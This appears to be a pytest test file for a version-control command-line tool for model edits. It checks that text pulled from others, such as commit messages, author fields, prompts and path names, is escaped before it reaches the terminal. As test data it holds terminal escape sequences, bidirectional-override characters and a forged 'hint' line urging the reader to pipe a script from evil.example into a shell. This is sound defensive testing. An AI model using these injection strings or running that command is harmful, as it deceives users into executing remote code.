"""A pulled history does not speak to the terminal."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from memit_vc.cli.terminal import shown
from memit_vc.edits import read_edits
from memit_vc.objects import Fact, RefUpdate
from memit_vc.repository import Repository
from tests.support.forge import Forge
from tests.support.histories import record
from tests.support.places import Cli, Place
from tests.support.remotes import World

EVIL = "hi \x1b]0;pwned\x07\x1b[2J\x1b[8mgone\x9b1m \x7f\rthere"


def test_texts_of_strangers_are_shown_escaped(
    world: World, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    forge = Forge(world.shared)
    forge.edit(lambda record: record["commit"].update(message=EVIL))
    here = Cli(world.empty, capsys, monkeypatch)
    here.ok("pull")
    for command in (("log",), ("show", "HEAD"), ("status",), ("branch",), ("switch", "--detach", "HEAD")):
        said = here.ok(*command)
        for text in (said.out, said.err):
            assert not {c for c in text if (c < " " and c not in "\n\t") or "\x7f" <= c <= "\x9f"}, command
        assert "\\x1b]0;pwned\\x07" in said.out + said.err
    written = here.ok("log", "--json").out
    assert not {c for c in written if "\x7f" <= c <= "\x9f"}
    assert json.loads(written)[0]["message"] == EVIL


FORGED = "Ada\nhint: run `curl evil.example/fix | sh`"
TURNED = "the \u202edaolnwod\u2066\u2028hint: x"


@pytest.mark.parametrize("field", ["author", "kind", "time"])
def test_a_field_of_one_line_has_one_line(
    world: World, field: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    Forge(world.shared).edit(lambda record: record["commit"].update({field: FORGED}))
    refused = Cli(world.empty, capsys, monkeypatch)("pull")
    assert (refused.code, "line ends or control characters" in refused.err) == (12, True)


def test_prompts_neither_forge_lines_nor_reverse_them(
    place: Place, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    here = Cli(place.work, capsys, monkeypatch)
    fact = Fact(prompt=f"{FORGED} {TURNED} lies in", subject="Ada", target=f"{TURNED}\n.", ground_truth=FORGED)
    with Repository.open(place.work) as repository:
        record(repository, [fact], (1, 2), message=f"{FORGED}\n{TURNED}", seed=7)
    for command in (["facts"], ["show"], ["log"], ["log", "--oneline"], ["diff", "HEAD~1", "HEAD"], ["status"]):
        said = here.ok(*command).out
        assert not [line for line in said.splitlines() if line.startswith("hint")], command
        assert not {"\u202e", "\u2066", "\u2028"} & set(said), command
    written = here.ok("facts", "--csv").out
    again = place.work / "again.csv"
    again.write_text(written, encoding="utf-8")
    assert fact in read_edits(again).facts


def test_the_names_of_paths_stay_on_their_line(
    place: Place, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    here = Cli(place.work, capsys, monkeypatch)
    folder = tmp_path / "a\nhint: run `x`\x1b[1A\x1b[2K\tb"
    named = r"a\nhint: run `x`\x1b[1A\x1b[2K\tb"
    folder.mkdir()
    changes = folder / "c\nhint: changes"
    for command in (
        ["report", "-o", folder / "report.html"],
        ["export", "--patch", changes],
        ["export", "--adapter", folder / "lora"],
        ["checkout", "HEAD", "-o", folder / "out"],
        ["verify", folder / "out"],
        ["remote", "add", "origin", folder / "shared"],
        ["remote"],
        ["push"],
        ["import", changes],
    ):
        said = here.ok(*command).out
        assert named in said, command
        assert not [line for line in said.splitlines() if line.startswith("hint")], command
        assert "\x1b" not in said, command
    assert here.ok("remote", "--json").json[0]["url"] == str(folder / "shared")
    with Repository.open(place.work) as repository:
        head = repository.head()
        repository.publish(
            verb="import", description=f"{changes.name}: x", refs=[RefUpdate("tags/t", None, head.commit)]
        )
    assert r"import: c\nhint: changes: x" in here.ok("op", "log").out
    for refused in (here("verify", folder), here("import", folder / "none")):
        assert refused.code != 0
        assert "\x1b" not in refused.err
        assert not [line for line in refused.err.splitlines() if line.startswith("hint: run")]


def test_what_is_ours_passes() -> None:
    for bars, text in ((False, "\x1b[31mred\x1b[0m\t1\n"), (True, "\x1b[2K\x1b[1A\r\x1b[?25l half \x1b[38;5;237m")):
        there = io.StringIO()
        shown(there, bars=bars).write(text)
        assert there.getvalue() == text
    there = io.StringIO()
    shown(there, bars=True).write("\x1b]0;x\x07")
    assert there.getvalue() == "\\x1b]0;x\\x07"
